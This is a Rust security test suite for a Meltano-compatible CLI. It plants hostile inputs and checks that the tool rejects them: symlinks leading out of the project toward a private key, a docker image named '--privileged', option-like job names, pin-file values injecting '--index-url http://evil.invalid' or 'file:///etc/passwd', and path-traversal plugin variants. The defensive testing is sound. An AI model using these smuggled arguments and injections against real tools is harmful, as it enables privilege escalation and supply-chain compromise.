//! An attacker's review of the commands Meltano 4.4 added (`logs`, `schedule run`,
//! `invoke --containers`, `compile`'s manifests, pin files, `--database-uri`): each test plants
//! what a hostile project, a careless colleague or a shared machine could hand eltr, and checks
//! that nothing outside the project is read or written, no value turns into an option of
//! another program, no secret reaches a file or a message, and nothing hangs.

mod common;
#[path = "common/run.rs"]
mod support;

use common::{eltr, files_under, project_dir, wait_until};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

/// A run record as `pipeline::run_record` writes it.
fn record(run_id: &str) -> String {
    format!(
        r#"{{"job_name": "dev:tap-to-target", "run_id": "{run_id}", "state": "SUCCESS",
            "started_at": "2026-01-01 00:00:00.000000", "ended_at": null,
            "duration_seconds": 1.0, "trigger": "cli"}}"#
    )
}

fn write_script(path: &Path, text: &str) {
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// `program args` in `dir` as a scheduler starts it: no terminal on any stream, only `PATH`,
/// `HOME` and the tests' user cache in its environment; stderr captured.
fn scheduled(program: impl AsRef<std::ffi::OsStr>, args: &[&str], dir: &Path) -> Command {
    let mut cmd = Command::new(program);
    cmd.args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", std::env::var_os("HOME").unwrap_or_default())
        .env("ELTR_CACHE_DIR", common::test_user_cache())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    cmd
}

/// Starts `cmd`, waits until the plugin it runs has made the file `started`, sends eltr
/// SIGTERM (as Airflow stops a task) and returns what eltr left when it ended.
fn sigterm_once(mut cmd: Command, started: &Path, what: &str) -> std::process::Output {
    let child = cmd.spawn().unwrap();
    wait_until(Duration::from_secs(60), what, || started.exists());
    // SAFETY: signalling a child this test started, by its pid.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    child.wait_with_output().unwrap()
}

/// Whether the process whose pid a plugin wrote to `pid_file` still runs.
fn still_running(pid_file: &Path) -> bool {
    let pid: i32 = fs::read_to_string(pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    // SAFETY: signal 0 only asks whether the process exists.
    unsafe { libc::kill(pid, 0) == 0 }
}

/// Every file under `dir` whose bytes contain `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<PathBuf> {
    files_under(dir)
        .into_iter()
        .filter(|f| {
            fs::read(f).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
        })
        .collect()
}

#[test]
fn logs_never_read_a_record_or_a_log_through_a_link_leading_out_of_the_project() {
    let (tmp, dir) = project_dir();
    fs::write(dir.join("meltano.yml"), "version: 1\n").unwrap();
    // Someone else's files, beside the project.
    let outside = tmp.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("id_rsa"), "PRIVATE-KEY-OUTSIDE").unwrap();
    fs::write(outside.join("r2.json"), record("r2")).unwrap();
    fs::write(outside.join("r2.log"), "LOG-OUTSIDE").unwrap();
    // A record inside whose log is a link to the private key, and a whole state id folder
    // that is a link out of the project.
    let logs = dir.join(".eltr/logs");
    fs::create_dir_all(logs.join("dev:tap-to-target")).unwrap();
    fs::write(logs.join("dev:tap-to-target/r1.json"), record("r1")).unwrap();
    symlink(
        outside.join("id_rsa"),
        logs.join("dev:tap-to-target/r1.log"),
    )
    .unwrap();
    symlink(&outside, logs.join("dev:elsewhere")).unwrap();

    let shown = eltr(&dir, ["logs", "show", "r1"], &[]);
    assert!(
        !shown.stdout.contains("PRIVATE-KEY-OUTSIDE") && !shown.stderr.contains("PRIVATE-KEY"),
        "a file outside the project was printed: {shown:?}"
    );
    let listed = eltr(&dir, ["logs", "list", "--format", "json"], &[]);
    let ids: Vec<String> = listed.success().json()["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["log_id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids, ["r1"], "a record outside the project was listed");
    let other = eltr(&dir, ["logs", "show", "r2"], &[]);
    other.clean_error(&["No job found with log ID 'r2'"]);
    assert!(!other.stdout.contains("LOG-OUTSIDE"), "{other:?}");
    // The whole logs folder a link to a folder of someone else's.
    fs::remove_dir_all(&logs).unwrap();
    fs::create_dir_all(outside.join("state-id")).unwrap();
    fs::write(outside.join("state-id/r3.json"), record("r3")).unwrap();
    symlink(&outside, &logs).unwrap();
    let listed = eltr(&dir, ["logs", "list"], &[]);
    assert_eq!(listed.success().stdout.trim(), "No job runs found.");
    // An id that is no id: 100 KB with a terminal escape, echoed short and escaped.
    let hostile = format!("\u{1b}]0;pwned\u{7}{}", "a".repeat(100_000));
    for args in [
        ["logs", "show", hostile.as_str()],
        ["schedule", "run", hostile.as_str()],
    ] {
        let run = eltr(&dir, args, &[]);
        run.clean_error(&["\\u{1b}]0;pwned"]);
        assert!(run.stderr.len() < 1000, "{} bytes echoed", run.stderr.len());
        assert!(!run.stderr.contains('\u{1b}'), "{run:?}");
    }
}

/// A project whose `boxed:serve` command runs in a container described by `spec` (YAML lines
/// under `container_spec:`), with a secret setting.
fn container_project(spec: &str) -> (tempfile::TempDir, PathBuf) {
    let (tmp, dir) = project_dir();
    let yml = format!(
        "version: 1\nplugins:\n  utilities:\n  - name: boxed\n    namespace: boxed\n    \
         executable: /bin/true\n    settings:\n    - name: token\n      kind: password\n      \
         sensitive: true\n    config:\n      token: tok-123-secret\n    commands:\n      serve:\n        \
         args: serve\n        container_spec:\n{spec}"
    );
    fs::write(dir.join("meltano.yml"), yml).unwrap();
    (tmp, dir)
}

/// A folder with a stand-in `docker` running `body` (in the project folder, eltr's cwd for it),
/// and the PATH that finds it first.
fn fake_docker(body: &str) -> (tempfile::TempDir, String) {
    let bin = tempfile::tempdir().unwrap();
    write_script(&bin.path().join("docker"), &format!("#!/bin/sh\n{body}"));
    let path = format!(
        "{}:{}",
        bin.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    (bin, path)
}

#[test]
fn a_container_image_cannot_smuggle_an_option_into_the_docker_command_line() {
    let (_tmp, dir) =
        container_project("          image: --privileged\n          command: alpine sh\n");
    let (_bin, path) = fake_docker("printf '%s\\n' \"$@\" > docker-argv.txt\nexit 0\n");
    let run = eltr(
        &dir,
        ["invoke", "--containers", "boxed:serve"],
        &[("PATH", path.as_str())],
    );
    run.clean_error(&["image '--privileged'"]);
    assert!(
        !dir.join("docker-argv.txt").exists(),
        "docker was started with the smuggled option"
    );
}

#[test]
fn a_secret_expanded_into_a_volume_never_reaches_the_docker_command_line() {
    let (_tmp, dir) = container_project(
        "          image: alpine\n          volumes:\n          - /srv/$BOXED_TOKEN:/data\n",
    );
    let (_bin, path) = fake_docker("printf '%s\\n' \"$@\" > docker-argv.txt\nexit 0\n");
    let run = eltr(
        &dir,
        ["invoke", "--containers", "boxed:serve"],
        &[("PATH", path.as_str())],
    );
    run.clean_error(&["volume '/srv/*****:/data'", "sensitive"]);
    assert!(!run.stderr.contains("tok-123-secret"), "{}", run.stderr);
    assert!(
        !dir.join("docker-argv.txt").exists(),
        "docker was started with the secret on its command line"
    );
    // Text written in the spec itself is the user's, even where it reads like a secret.
    let (_tmp, dir) = container_project(
        "          image: alpine\n          volumes:\n          - /var/lib/tok-123-secret:/data\n",
    );
    eltr(
        &dir,
        ["invoke", "--containers", "boxed:serve"],
        &[("PATH", path.as_str())],
    )
    .success();
    let argv = fs::read_to_string(dir.join("docker-argv.txt")).unwrap();
    assert!(
        argv.contains("\n-v\n/var/lib/tok-123-secret:/data\n"),
        "{argv}"
    );
}

/// A SIGTERM to eltr (a scheduler stopping the task) while the container runs: it is handed
/// on to the runtime, eltr waits for it, and neither the runtime nor the run folder (with the
/// plugin's configuration) outlives eltr; the secrets were never in a file or on a command line.
#[test]
fn a_signal_to_eltr_stops_the_container_and_leaves_no_secret_and_no_run_folder() {
    let (_tmp, dir) = container_project(
        "          image: example/boxed:1\n          command: serve\n          env:\n            EXTRA: yes-it-is\n",
    );
    // The stand-in docker tells what it was given (its command line, the environment file
    // it is pointed at, and whether the token is in its own environment), then waits to be
    // released.
    let (_bin, path) = fake_docker(
        "printf '%s\\n' \"$@\" > docker-argv.txt\n\
         echo \"own=$BOXED_TOKEN\" > docker-env.txt\n\
         while [ $# -gt 0 ]; do\n\
           if [ \"$1\" = --env-file ]; then cat \"$2\" >> docker-env.txt; fi\n\
           shift\n\
         done\n\
         echo $$ > docker.pid\n\
         touch docker-started\n\
         while [ ! -e docker-release ]; do sleep 0.05; done\n",
    );
    let mut invoke = scheduled(
        common::eltr_bin(),
        &["invoke", "--containers", "boxed:serve"],
        &dir,
    );
    invoke.env("PATH", &path);
    sigterm_once(invoke, &dir.join("docker-started"), "docker to start");
    let docker_alive = still_running(&dir.join("docker.pid"));
    let left = files_holding(&dir.join(".eltr"), "tok-123-secret");
    let run_folders = files_under(&dir.join(".eltr/run/boxed"));
    fs::write(dir.join("docker-release"), "").unwrap();
    assert!(!docker_alive, "the container runtime outlived eltr");
    assert!(left.is_empty(), "the secret is left on disk in {left:?}");
    assert!(run_folders.is_empty(), "left behind: {run_folders:?}");
    let argv = fs::read_to_string(dir.join("docker-argv.txt")).unwrap();
    assert!(!argv.contains("tok-123-secret"), "{argv}");
    assert!(argv.contains("--env-file\n/dev/fd/"), "{argv}");
    let env = fs::read_to_string(dir.join("docker-env.txt")).unwrap();
    assert!(
        env.starts_with("own=\n"),
        "docker's own environment changed: {env}"
    );
    for var in ["BOXED_TOKEN=tok-123-secret", "EXTRA=yes-it-is"] {
        assert!(env.lines().any(|l| l == var), "{var} not handed on: {env}");
    }
}

#[test]
fn compile_does_not_write_manifests_through_a_link_leading_out_of_the_project() {
    let (tmp, dir) = project_dir();
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nenvironments:\n- name: dev\n",
    )
    .unwrap();
    let outside = tmp.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::create_dir_all(dir.join(".meltano")).unwrap();
    symlink(&outside, dir.join(".meltano/manifests")).unwrap();
    let run = eltr(&dir, ["compile"], &[]);
    run.clean_error(&[
        "Unable to create directory for Meltano manifests",
        "refusing",
    ]);
    assert!(
        files_under(&outside).is_empty(),
        "written outside the project: {:?}",
        files_under(&outside)
    );
    // A manifest file that is a link out of the project is replaced, never written through.
    fs::remove_file(dir.join(".meltano/manifests")).unwrap();
    fs::create_dir_all(dir.join(".meltano/manifests")).unwrap();
    fs::write(outside.join("target.json"), "theirs").unwrap();
    symlink(
        outside.join("target.json"),
        dir.join(".meltano/manifests/meltano-manifest.json"),
    )
    .unwrap();
    eltr(&dir, ["compile"], &[]).success();
    assert_eq!(
        fs::read_to_string(outside.join("target.json")).unwrap(),
        "theirs"
    );
    assert!(
        !fs::symlink_metadata(dir.join(".meltano/manifests/meltano-manifest.json"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // A directory chosen on the command line is the user's choice, outside or not.
    let chosen = tmp.path().join("chosen");
    eltr(
        &dir,
        ["compile", "--directory", chosen.to_str().unwrap()],
        &[],
    )
    .success();
    assert!(chosen.join("meltano-manifest.json").is_file());
}

/// Runs `eltr args` in `dir`, killing it (and failing) if it has not ended within a minute.
fn eltr_within_a_minute(dir: &Path, args: &[&str]) -> (Option<i32>, String) {
    let mut child = scheduled(common::eltr_bin(), args, dir)
        .env("ELTR_UV", "/nonexistent/uv")
        .spawn()
        .unwrap();
    let mut status = None;
    let ended = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        wait_until(Duration::from_secs(60), "eltr to end", || {
            status = child.try_wait().unwrap();
            status.is_some()
        })
    }));
    if ended.is_err() {
        let _ = child.kill();
        let _ = child.wait();
        panic!("eltr {args:?} hung");
    }
    let mut stderr = String::new();
    use std::io::Read;
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    (status.and_then(|s| s.code()), stderr)
}

/// A project with extractor `tap-x` (`pip_url: tap-x==1.0`) and the path its pin file has,
/// its folder made, the file not.
fn tap_with_pin_file_place() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let (tmp, dir) = project_dir();
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
         pip_url: tap-x==1.0\n",
    )
    .unwrap();
    let pins = dir.join("plugins/extractors/pylock.tap-x.toml");
    fs::create_dir_all(pins.parent().unwrap()).unwrap();
    (tmp, dir, pins)
}

/// Makes a named pipe at `path`.
fn mkfifo(path: &Path) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path; mkfifo only reads it.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[test]
fn a_lock_that_is_a_named_pipe_is_a_clear_error_not_a_hang() {
    let (_tmp, dir, _pins) = tap_with_pin_file_place();
    mkfifo(&dir.join(".eltr/extractors/tap-x/install.lock"));
    let (code, stderr) = eltr_within_a_minute(&dir, &["install"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("install.lock is not a regular file"),
        "{stderr}"
    );

    let p = support::project("run-basic");
    mkfifo(&p.path(".eltr/state/dev:tap-x-to-target-y/lock"));
    let (code, stderr) = eltr_within_a_minute(&p.dir, &["run", "tap-x", "target-y"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("lock: it is not a regular file"),
        "{stderr}"
    );
}

#[test]
fn a_pin_file_that_is_a_pipe_or_a_device_is_a_clear_error_not_a_hang() {
    let (_tmp, dir, pins) = tap_with_pin_file_place();
    mkfifo(&pins);
    let (code, stderr) = eltr_within_a_minute(&dir, &["install"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("pylock.tap-x.toml") && stderr.contains("not a regular file"),
        "{stderr}"
    );
    fs::remove_file(&pins).unwrap();
    symlink("/dev/zero", &pins).unwrap();
    let (code, stderr) = eltr_within_a_minute(&dir, &["install"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("pylock.tap-x.toml"), "{stderr}");
}

#[test]
fn schedule_run_hands_names_that_look_like_options_on_as_names() {
    let (_tmp, dir) = project_dir();
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  extractors:\n  - name: --version\n    namespace: tap_x\n    \
         executable: /bin/false\n  loaders:\n  - name: target-y\n    namespace: target_y\n    \
         executable: /bin/false\n  utilities:\n  - name: recorder\n    namespace: recorder\n    \
         executable: /bin/sh\n    commands:\n      note:\n        args: -c 'echo ran >> seen.txt'\n\
         jobs:\n- name: --dry-run\n  tasks:\n  - recorder:note\n\
         schedules:\n- name: nightly\n  interval: '@daily'\n  job: --dry-run\n\
         - name: legacy\n  interval: '@daily'\n  extractor: --version\n  loader: target-y\n",
    )
    .unwrap();
    // The job named `--dry-run` runs, rather than turning the run into a dry run.
    eltr(&dir, ["schedule", "run", "nightly"], &[]).success();
    assert_eq!(
        fs::read_to_string(dir.join("seen.txt")).unwrap_or_default(),
        "ran\n"
    );
    // The extractor named `--version` is run (and fails), rather than eltr printing its
    // version and reporting success to the scheduler.
    let legacy = eltr(&dir, ["schedule", "run", "legacy"], &[]);
    legacy.failure();
    assert!(!legacy.stdout.starts_with("eltr "), "{legacy:?}");
}

#[test]
fn a_database_password_given_as_a_query_parameter_is_never_printed() {
    let (_tmp, dir) = project_dir();
    fs::write(dir.join("meltano.yml"), "version: 1\n").unwrap();
    for uri in [
        "postgresql://user@127.0.0.1:1/db?password=S3cretPW99",
        "postgresql:///db?host=127.0.0.1&port=1&password=S3cretPW99",
        "postgresql://user@127.0.0.1:1/db?sslmode=bogus&password=S3cretPW99",
    ] {
        for args in [
            vec!["--database-uri", uri, "state", "list"],
            vec![
                "--log-level",
                "debug",
                "--database-uri",
                uri,
                "state",
                "list",
            ],
        ] {
            let run = eltr(&dir, &args, &[]);
            run.failure();
            assert!(
                !run.stderr.contains("S3cretPW99") && !run.stdout.contains("S3cretPW99"),
                "{run:?}"
            );
        }
        let run = eltr(&dir, ["state", "list"], &[("MELTANO_DATABASE_URI", uri)]);
        run.failure();
        assert!(!run.stderr.contains("S3cretPW99"), "{run:?}");
    }
}

#[test]
fn a_huge_manifest_indent_is_a_usage_error_not_an_abort() {
    let (_tmp, dir) = project_dir();
    fs::write(dir.join("meltano.yml"), "version: 1\n").unwrap();
    for indent in ["9223372036854775807", "100000000"] {
        let run = eltr(&dir, ["compile", "--indent", indent], &[]);
        run.exits(2);
        assert!(run.stderr.contains("--indent"), "{run:?}");
    }
    assert!(
        !dir.join(".meltano/manifests/meltano-manifest.json")
            .exists()
    );
    eltr(&dir, ["compile", "--indent", "-1"], &[]).success();
}

#[test]
fn hub_credentials_are_never_printed() {
    let (_tmp, dir) = project_dir();
    // A private Hub with a password in its URL and a token; nothing listens on port 1.
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nhub_url: http://huser:HubPassw0rd@127.0.0.1:1\nhub_url_auth: Bearer HubTok3nXYZ\n",
    )
    .unwrap();
    for args in [
        vec!["hub", "ping"],
        vec!["--log-level", "debug", "hub", "list", "extractors"],
    ] {
        let run = eltr(&dir, &args, &[]);
        run.failure();
        for secret in ["HubPassw0rd", "HubTok3nXYZ"] {
            assert!(
                !run.stderr.contains(secret) && !run.stdout.contains(secret),
                "{secret} printed: {run:?}"
            );
        }
    }
    let api = [(
        "MELTANO_HUB_API_ROOT",
        "http://huser:HubPassw0rd@127.0.0.1:1/api",
    )];
    let run = eltr(&dir, ["hub", "list", "extractors"], &api);
    run.failure();
    assert!(!run.stderr.contains("HubPassw0rd"), "{run:?}");
}

/// `config test` stopped by a scheduler or Ctrl-C while the tap runs: the tap is stopped,
/// and its config file (with the password) goes with the run folder instead of staying behind.
/// A project whose tap-x (password `hunter2secret`) writes its pid to `tap.pid`, touches
/// `started`, and runs until a file `release` appears.
fn tap_that_waits_with_a_password() -> (tempfile::TempDir, PathBuf) {
    let (tmp, dir) = project_dir();
    write_script(
        &dir.join("tap.sh"),
        "#!/bin/sh\necho $$ > tap.pid\ntouch started\nwhile [ ! -e release ]; do sleep 0.05; done\n",
    );
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
         executable: ./tap.sh\n    capabilities: [about]\n    settings:\n    - name: password\n      \
         sensitive: true\n    config:\n      password: hunter2secret\n",
    )
    .unwrap();
    (tmp, dir)
}

#[test]
fn config_test_stopped_by_a_signal_leaves_no_config_file_behind() {
    let (_tmp, dir) = tap_that_waits_with_a_password();
    let out = sigterm_once(
        scheduled(common::eltr_bin(), &["config", "test", "tap-x"], &dir),
        &dir.join("started"),
        "the tap to start",
    );
    let left = files_holding(&dir.join(".eltr"), "hunter2secret");
    fs::write(dir.join("release"), "").unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(left.is_empty(), "the password is left on disk in {left:?}");
    assert_eq!(out.status.code(), Some(143), "{stderr}");
    assert!(stderr.contains("interrupted by SIGTERM"), "{stderr}");
    assert!(!stderr.contains("hunter2secret"), "{stderr}");
    assert!(
        !still_running(&dir.join("tap.pid")),
        "the tap outlived eltr"
    );
}

/// A Hub on a local port that answers each path in `files` with its body (`{{HUB}}` replaced
/// by its address) and 404 otherwise; lives until the test ends.
fn hostile_hub(files: &'static [(&'static str, &'static str)]) -> String {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let served = base.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let path = first.split_whitespace().nth(1).unwrap_or("/").to_string();
            let (status, body) = match files.iter().find(|(p, _)| *p == path) {
                Some((_, body)) => ("200 OK", body.replace("{{HUB}}", &served)),
                None => ("404 Not Found", "{}".to_string()),
            };
            let mut s = stream;
            let _ = write!(
                s,
                "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    base
}

#[test]
fn a_variant_from_the_hub_that_is_no_valid_name_is_refused_before_anything_is_written() {
    const INDEX: &str = r#"{
        "tap-slash": {"default_variant": "a/b", "variants": {"a/b": {"ref": "{{HUB}}/def"}}},
        "tap-up": {"default_variant": "../../../x", "variants": {"../../../x": {"ref": "{{HUB}}/def"}}}
    }"#;
    const DEF: &str = r#"{"name": "tap-slash", "namespace": "tap_slash", "pip_url": "tap-slash", "settings": []}"#;
    static FILES: [(&str, &str); 2] = [
        ("/meltano/api/v1/plugins/extractors/index", INDEX),
        ("/def", DEF),
    ];
    let hub = hostile_hub(&FILES);
    let (tmp, dir) = project_dir();
    fs::write(dir.join("meltano.yml"), "version: 1\n").unwrap();
    for plugin in ["tap-slash", "tap-up"] {
        let run = eltr(
            &dir,
            ["add", "extractor", plugin],
            &[("MELTANO_HUB_URL", hub.as_str())],
        );
        run.clean_error(&["variant", "is not valid"]);
    }
    assert_eq!(
        fs::read_to_string(dir.join("meltano.yml")).unwrap(),
        "version: 1\n"
    );
    assert!(!dir.join("plugins").exists());
    assert_eq!(
        fs::read_dir(tmp.path()).unwrap().count(),
        1,
        "something was written beside the project"
    );
}

#[test]
fn a_hub_answer_larger_than_eltr_reads_is_a_clear_error() {
    // 40 MiB of JSON (a string): more than any Hub index, read into memory whole before.
    static BIG: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    let body: &'static str = BIG.get_or_init(|| format!("\"{}\"", "x".repeat(40 << 20)));
    let files: &'static [(&'static str, &'static str)] = Box::leak(Box::new([(
        "/meltano/api/v1/plugins/extractors/index",
        body,
    )]));
    let hub = hostile_hub(files);
    let (_tmp, dir) = project_dir();
    fs::write(dir.join("meltano.yml"), "version: 1\n").unwrap();
    let run = eltr(
        &dir,
        ["hub", "list", "extractors"],
        &[("MELTANO_HUB_URL", hub.as_str())],
    );
    run.clean_error(&["larger than"]);
}

#[test]
fn airflows_setup_steps_are_read_in_bounded_memory() {
    let (_tmp, dir) = project_dir();
    // An `airflow` whose first setup step writes 300 MB to stderr, without a newline, and fails.
    write_script(
        &dir.join("airflow.sh"),
        "#!/bin/sh\nhead -c 300000000 /dev/zero >&2\nexit 1\n",
    );
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  orchestrators:\n  - name: airflow\n    namespace: airflow\n    \
         executable: ./airflow.sh\n",
    )
    .unwrap();
    // 250 MB of address space: room for eltr, not for the whole stream.
    let script = format!(
        "ulimit -v 250000; exec {} invoke airflow version",
        common::eltr_bin().display()
    );
    let out = scheduled("sh", &["-c", &script], &dir).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("Command `airflow config generate` failed"),
        "{stderr}"
    );
}

#[test]
fn a_pin_file_value_cannot_add_a_line_for_pip_or_install_from_outside_the_project() {
    let (_tmp, dir, pins) = tap_with_pin_file_place();
    let hash = "a".repeat(64);
    for (field, package) in [
        (
            "name",
            "name = \"tap-x\\n--index-url http://evil.invalid\"\nversion = \"1.0\"".to_string(),
        ),
        (
            "version",
            "name = \"tap-x\"\nversion = \"1.0\\n--index-url http://evil.invalid\"".to_string(),
        ),
        (
            "marker",
            "name = \"tap-x\"\nversion = \"1.0\"\nmarker = \"python_version > '3'\\n-e /tmp\""
                .to_string(),
        ),
        (
            "location",
            "name = \"tap-x\"\nversion = \"1.0\"\ndirectory = {path = \"../../elsewhere\"}"
                .to_string(),
        ),
        (
            "location",
            "name = \"tap-x\"\nversion = \"1.0\"\narchive = {url = \"file:///etc/passwd\", hashes = {sha256 = \"aa\"}}"
                .to_string(),
        ),
        (
            "location",
            format!("name = \"tap-x\"\nversion = \"1.0\"\nwheels = [{{path = \"/tmp/x.whl\", hashes = {{sha256 = \"{hash}\"}}}}]"),
        ),
        (
            "hash",
            format!(
                "name = \"tap-x\"\nversion = \"1.0\"\nwheels = [{{hashes = {{sha256 = \"{hash} --trusted-host x\"}}}}]"
            ),
        ),
    ] {
        fs::write(
            &pins,
            format!("lock-version = \"1.0\"\n\n[[packages]]\n{package}\n"),
        )
        .unwrap();
        let (code, stderr) = eltr_within_a_minute(&dir, &["install"]);
        assert_eq!(code, Some(1), "{field}: {stderr}");
        assert!(
            stderr.contains(&format!("{}:3:1: package", pins.display())) && stderr.contains(field),
            "{field}: {stderr}"
        );
    }
}

/// `invoke` started by a scheduler (no terminal) and stopped with SIGTERM: the plugin gets the
/// signal, eltr waits for it, and the plugin's config file (with the password) goes with the
/// run folder.
#[test]
fn invoke_stopped_by_a_scheduler_stops_the_plugin_and_leaves_no_config_file() {
    let (_tmp, dir) = tap_that_waits_with_a_password();
    let out = sigterm_once(
        scheduled(common::eltr_bin(), &["invoke", "tap-x"], &dir),
        &dir.join("started"),
        "the tap to start",
    );
    let left = files_holding(&dir.join(".eltr"), "hunter2secret");
    let tap_alive = still_running(&dir.join("tap.pid"));
    fs::write(dir.join("release"), "").unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(left.is_empty(), "the password is left on disk in {left:?}");
    assert!(!tap_alive, "the plugin outlived eltr");
    assert_ne!(out.status.code(), Some(0), "{stderr}");
}

/// `eltr test --all` stopped by a scheduler: the running test is stopped, the ones after it
/// do not start, and eltr ends with SIGTERM's exit code.
#[test]
fn test_stopped_by_a_scheduler_stops_the_running_test_and_starts_no_other() {
    let (_tmp, dir) = project_dir();
    write_script(
        &dir.join("check.sh"),
        "#!/bin/sh\nif [ \"$1\" = second ]; then touch second-ran; exit 0; fi\n\
         echo $$ > first.pid\ntouch started\nwhile [ ! -e release ]; do sleep 0.05; done\n",
    );
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  utilities:\n  - name: checks\n    namespace: checks\n    \
         executable: ./check.sh\n    commands:\n      test-a:\n        args: first\n      \
         test-b:\n        args: second\n",
    )
    .unwrap();
    let out = sigterm_once(
        scheduled(common::eltr_bin(), &["test", "--all"], &dir),
        &dir.join("started"),
        "the first test to start",
    );
    let first_alive = still_running(&dir.join("first.pid"));
    fs::write(dir.join("release"), "").unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!first_alive, "the running test outlived eltr");
    assert_eq!(out.status.code(), Some(143), "{stderr}");
    assert!(
        !dir.join("second-ran").exists(),
        "a test started after the signal"
    );
}

#[test]
fn logs_show_masks_the_projects_secrets_in_a_log_eltr_did_not_write() {
    let (_tmp, dir) = project_dir();
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
         settings:\n    - name: password\n      sensitive: true\n    config:\n      \
         password: hunter2secret\n",
    )
    .unwrap();
    let logs = dir.join(".eltr/logs/dev:tap-x-to-target-y");
    fs::create_dir_all(&logs).unwrap();
    fs::write(logs.join("r1.json"), record("r1")).unwrap();
    // A log copied in by hand (or written before the setting was marked sensitive), holding
    // the password as written and JSON-escaped.
    fs::write(
        logs.join("r1.log"),
        "connecting with hunter2secret\n{\"password\": \"hunter2secret\"}\n",
    )
    .unwrap();
    for args in [
        vec!["logs", "show", "r1"],
        vec!["logs", "show", "r1", "--tail", "1"],
    ] {
        let run = eltr(&dir, &args, &[]);
        run.success();
        assert!(!run.stdout.contains("hunter2secret"), "{run:?}");
        assert!(run.stdout.contains("*****"), "{run:?}");
    }
}

#[test]
fn a_run_folder_linked_out_of_the_project_gets_no_config_file() {
    let (tmp, dir) = project_dir();
    write_script(&dir.join("tap.sh"), "#!/bin/sh\nexit 0\n");
    fs::write(
        dir.join("meltano.yml"),
        "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
         executable: ./tap.sh\n    capabilities: [about]\n    settings:\n    - name: password\n      \
         sensitive: true\n    config:\n      password: hunter2secret\n",
    )
    .unwrap();
    let outside = tmp.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::create_dir_all(dir.join(".eltr/run")).unwrap();
    symlink(&outside, dir.join(".eltr/run/tap-x")).unwrap();
    let run = eltr(&dir, ["invoke", "tap-x"], &[]);
    run.clean_error(&["refusing"]);
    assert!(
        files_under(&outside).is_empty(),
        "written outside the project: {:?}",
        files_under(&outside)
    );
}

#[test]
fn a_run_log_folder_linked_out_of_the_project_gets_no_log() {
    let p = support::project("run-basic");
    let outside = p.tmp().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::create_dir_all(p.path(".eltr/logs")).unwrap();
    symlink(&outside, p.path(".eltr/logs/dev:tap-x-to-target-y")).unwrap();
    eltr(&p.dir, ["run", "tap-x", "target-y"], &[]).success();
    assert!(
        files_under(&outside).is_empty(),
        "written outside the project: {:?}",
        files_under(&outside)
    );
}

#[test]
fn a_state_lock_linked_out_of_the_project_truncates_nothing() {
    let p = support::project("run-basic");
    let victim = p.tmp().join("precious.txt");
    fs::write(&victim, "kept as it was\n").unwrap();
    let state_dir = p.path(".eltr/state/dev:tap-x-to-target-y");
    fs::create_dir_all(&state_dir).unwrap();
    symlink(&victim, state_dir.join("lock")).unwrap();
    let run = eltr(&p.dir, ["run", "tap-x", "target-y"], &[]);
    run.clean_error(&["lock: it is a symbolic link"]);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "kept as it was\n");
}

#[test]
